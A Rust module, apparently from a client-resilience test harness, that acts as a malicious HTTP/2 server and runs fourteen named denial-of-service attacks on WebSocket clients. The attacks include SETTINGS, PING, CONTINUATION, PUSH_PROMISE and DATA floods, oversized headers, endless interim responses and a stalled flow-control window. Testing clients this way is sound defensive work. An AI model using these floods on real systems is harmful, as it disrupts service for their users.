//! Attacks on a client by a server of HTTP/2 (RFC 8441), beneath the WebSocket and before there is one.

use super::site_h2::Site;
use super::{Ending, MIB, PATIENCE, oversized};
use crate::arena::Refused;
use crate::wire::hpack::block;
use crate::wire::raw_h2::{flag, frame, kind, setting};
use crate::wire::stream::Wire;

/// Their names, without the `h2 ` before each.
pub(super) const NAMES: &[&str] = &[
    "connection that says nothing",
    "no answer",
    "settings",
    "pings",
    "unknown frames",
    "header continuations",
    "oversized field section",
    "endless interim answers",
    "endless body of a refusal",
    "pushed streams",
    "empty data",
    "one-octet data",
    "window of one octet",
    "window never opened",
];

/// Runs the attack of this name, without its `h2 `, on the client behind `wire`. What has to fill the
/// buffers of two sockets has its whole size at every scale.
pub(super) async fn attack(name: &str, wire: Wire, scale: usize) -> Result<Ending, Refused> {
    let mut site = Site::receive(wire).await?;
    let fields = |pairs: &[(&str, &str)]| -> Vec<(String, String)> {
        pairs.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect()
    };
    Ok(match name {
        "connection that says nothing" => site.wait(PATIENCE).await,
        "no answer" => {
            site.asked().await?;
            site.wait(PATIENCE).await
        }
        "settings" => {
            site.asked().await?;
            site.unread(&frame(kind::SETTINGS, 0, 0, &[]), 1_000_000).await
        }
        "pings" => {
            site.asked().await?;
            site.unread(&frame(kind::PING, 0, 0, &[7; 8]), 1_000_000).await
        }
        "unknown frames" => {
            site.asked().await?;
            site.flood(&frame(0xfa, 0, 0, &[7; 8]), 1_000_000 / scale).await
        }
        "header continuations" => {
            let id = site.asked().await?;
            site.fields = fields(&[(":status", "200")]);
            debug_assert_eq!(id, 1, "the first stream of a client");
            site.continuations(100_000 / scale).await
        }
        "oversized field section" => {
            site.asked().await?;
            let all = [fields(&[(":status", "200")]), oversized(scale)].concat();
            site.section(&all).await
        }
        "endless interim answers" => {
            let id = site.asked().await?;
            let interim = block(&fields(&[(":status", "103"), ("link", "</a>")]));
            let one = frame(kind::HEADERS, flag::END_HEADERS, id, &interim);
            site.flood(&one, 1_000_000 / scale).await
        }
        "endless body of a refusal" => {
            let id = site.asked().await?;
            let refusal = block(&fields(&[(":status", "403")]));
            site.send(&frame(kind::HEADERS, flag::END_HEADERS, id, &refusal)).await;
            site.flood(&frame(kind::DATA, 0, id, &[b'*'; 1024]), 100_000 / scale).await
        }
        "pushed streams" => {
            let id = site.asked().await?;
            let request = [(":method", "GET"), (":scheme", "http"), (":path", "/")];
            let promise = [&2u32.to_be_bytes()[..], &block(&fields(&request))].concat();
            let one = frame(kind::PUSH_PROMISE, flag::END_HEADERS, id, &promise);
            site.flood(&one, 100_000 / scale).await
        }
        "empty data" => {
            let id = site.welcome().await?;
            site.flood(&frame(kind::DATA, 0, id, &[]), 500_000 / scale).await
        }
        "one-octet data" => {
            let id = site.welcome().await?;
            site.message_by_octets(id, MIB / scale).await
        }
        "window of one octet" | "window never opened" => {
            let id = site.welcome().await?;
            let shut = [&setting::INITIAL_WINDOW_SIZE.to_be_bytes()[..], &[0; 4]].concat();
            site.send(&frame(kind::SETTINGS, 0, 0, &shut)).await;
            if name == "window never opened" {
                site.stall(id).await
            } else {
                site.dribble(id, 2000).await
            }
        }
        other => return Err(Refused::NoConnection(format!("there is no attack h2 {other:?}"))),
    })
}
